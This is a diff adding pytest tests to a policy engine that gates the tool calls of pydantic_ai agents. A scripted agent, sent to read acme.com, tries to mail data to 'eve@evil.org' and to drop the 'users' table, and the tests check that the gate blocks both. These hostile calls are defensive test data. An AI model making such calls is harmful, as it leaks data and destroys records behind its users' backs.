@@ -3,11 +3,18 @@
 from __future__ import annotations
 
 import asyncio
+import sys
+from pathlib import Path
 from typing import Any
 
 import pytest
+from fastmcp.client.transports import StdioTransport
 from pydantic import BaseModel
-from pydantic_ai import Agent, DeferredToolRequests, DeferredToolResults, ModelRetry
+from pydantic_ai import Agent, DeferredToolRequests, DeferredToolResults, ModelRetry, RunContext
+from pydantic_ai.capabilities import NativeTool
+from pydantic_ai.mcp import MCPToolset
+from pydantic_ai.native_tools import WebSearchTool
+from pydantic_ai.toolsets import FunctionToolset
 
 from policyengine import Engine
 from policyengine.integrations.pydantic_ai import PolicyCapability
@@ -109,3 +116,38 @@ def test_a_capability_that_did_not_see_the_run_begin_gates_nothing_and_runs_noth
             gate.get_wrapper_toolset(None)  # type: ignore[arg-type]
 
     asyncio.run(begun())
+
+
+def test_tools_of_the_provider_are_refused() -> None:
+    ran = Ran()
+    gate = PolicyCapability(Engine.from_text(POLICIES).session(principal=ANN))
+    model = says(["hello"], ran)
+    model.profile = {**model.profile, "supported_native_tools": frozenset({WebSearchTool})}  # type: ignore[misc]
+    agent = Agent(model, capabilities=[NativeTool(WebSearchTool()), gate])
+    with pytest.raises(PermissionError, match="runs where nobody gates it"):
+        agent.run_sync("go")
+    assert ran.shown == []
+
+
+def test_the_tools_of_an_mcp_server_and_those_added_in_a_run_are_gated(tmp_path: Path) -> None:
+    ran, tools, log = Ran(), Tools(), tmp_path / "ran"
+    server = StdioTransport(sys.executable, [str(Path(__file__).parents[2] / "mcp" / "server.py"), str(log)])
+    later = FunctionToolset([one for one in tools.functions() if one.__name__ == "slow"])
+    script = [
+        [("read_page", {"url": "acme.com"})],
+        [("send_mail", {"to": "eve@evil.org", "body": "x"})],
+        [("slow", {"name": "x"}), ("drop_table", {"name": "users"})],
+        "ok",
+    ]
+    gate = PolicyCapability(Engine.from_text(POLICIES).session(principal=ANN, prompt="read acme.com"))
+    agent = Agent(says(script, ran), toolsets=[MCPToolset(server)], capabilities=[gate])  # type: ignore[arg-type]
+
+    @agent.toolset
+    def added(ctx: RunContext[Any]) -> Any:
+        return later if ctx.run_step > 1 else None
+
+    assert agent.run_sync("read acme.com").output == "ok"
+    assert log.read_text().splitlines() == ["read_page acme.com"]
+    assert tools.ran == [("slow", "x")]
+    assert "`send_mail` may not run" in ran.seen
+    assert "drop_table" not in str(ran.shown)
